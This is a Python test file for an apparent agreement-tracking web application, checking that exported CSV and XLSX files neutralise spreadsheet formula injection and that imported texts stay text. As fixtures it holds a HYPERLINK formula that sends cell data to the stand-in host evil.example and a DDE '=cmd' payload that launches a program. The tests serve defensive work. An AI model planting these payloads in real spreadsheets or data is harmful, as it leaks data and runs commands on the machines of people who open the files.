"""Formula injection (security finding 2): a text typed by one unit never runs as a formula
in another unit's or the auditors' CSV and XLSX files, and imported texts stay texts."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from clause_tracker.agreements.importing import import_file
from clause_tracker.agreements.models import Agreement
from clause_tracker.counterparties import services as counterparties
from clause_tracker.extensions import db
from clause_tracker.orgunits.models import UnitKind
from clause_tracker.orgunits.services import ensure_unit
from clause_tracker.overview.exports import tables_csv, tables_xlsx
from clause_tracker.overview.tables import TEXT, Cell, Table
from clause_tracker.spreadsheets import csv_text
from tests.factories import insert_agreement

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Firma")'
CALC = "=cmd|' /C calc'!A0"
PAYLOADS = (LEAK, CALC, "=1+2", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+2", "\r=1+2")


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def _cells(data: bytes) -> list[list[object]]:
    """Each filled cell of the first sheet as (data type, value), read back by openpyxl."""
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [[(cell.data_type, cell.value) for cell in row if cell.value is not None]
            for row in sheet.iter_rows()]


def test_csv_text_neutralises_every_formula_start() -> None:
    for payload in PAYLOADS:
        assert csv_text(payload) == "'" + payload
    assert csv_text("Muster Bau GmbH") == "Muster Bau GmbH"
    assert csv_text("") == ""


def test_a_counterparty_planted_by_one_unit_is_text_in_the_auditors_exports(
        app, client, signed_in) -> None:
    # A KIJ officer records the counterparty; ZVS uses it (counterparties are shared).
    party = counterparties.create({"name": LEAK, "address": "Löbdergraben 1, 07743 Jena"})
    db.session.commit()
    insert_agreement(code="ZVS", reference="ZVS-2026-0815", subject=CALC,
                     counterparty_id=party.id)
    insert_agreement(code="ZVS", reference="ZVS-2026-0816", subject="@SUM(A1:A9)",
                     counterparty_id=party.id)
    signed_in("auditor")

    rows = _csv(client.get("/overview/agreements.csv").get_data(as_text=True))
    by_reference = {row[0]: row for row in rows[1:]}
    assert by_reference["ZVS-2026-0815"][2:4] == ["'" + CALC, "'" + LEAK]
    assert by_reference["ZVS-2026-0816"][2] == "'@SUM(A1:A9)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    cells = _cells(client.get("/overview/agreements.xlsx").data)
    texts = [cell for row in cells[1:] for cell in row if isinstance(cell[1], str)]
    assert ("s", LEAK) in texts and ("s", CALC) in texts and ("s", "@SUM(A1:A9)") in texts
    assert all(kind != "f" for row in cells for kind, _ in row)


def test_overview_tables_write_texts_as_texts() -> None:
    table = Table(key="units", title="=1+2", columns=["Einheit", "@Anzahl"],
                  rows=[[Cell(LEAK, TEXT), Cell("Fa\x01ll", TEXT)]])
    assert _csv(tables_csv([table]))[:3] == [["'=1+2"], ["Einheit", "'@Anzahl"],
                                              ["'" + LEAK, "Fa\x01ll"]]
    cells = _cells(tables_xlsx([table]))
    # A control character XML cannot hold is dropped, not a broken file.
    assert cells[:3] == [[("s", "=1+2")], [("s", "Einheit"), ("s", "@Anzahl")],
                         [("s", LEAK), ("s", "Fall")]]


def test_imported_formulas_are_stored_as_text_and_exported_as_text(app, client,
                                                                   signed_in) -> None:
    ensure_unit("KIJ", "Kommunale Immobilien Jena", UnitKind.EIGENBETRIEB)
    db.session.commit()
    data = ("Vergabenummer;Gegenstand;Art;Auftragnehmer;unit\n"
            f"KIJ-2026-001;=1+2;services;\"{LEAK.replace(chr(34), chr(34) * 2)}\";KIJ\n")
    report = import_file("contract", data.encode(), "vergaben.csv")
    assert report.errors == [] and report.created == ["KIJ-2026-001"]
    stored = db.session.scalar(select(Agreement).where(Agreement.reference == "KIJ-2026-001"))
    assert (stored.subject, stored.counterparty.name) == ("=1+2", LEAK)

    signed_in("auditor")
    [row] = [r for r in _csv(client.get("/overview/agreements.csv").get_data(as_text=True))
             if r[0] == "KIJ-2026-001"]
    assert row[2:4] == ["'=1+2", "'" + LEAK]
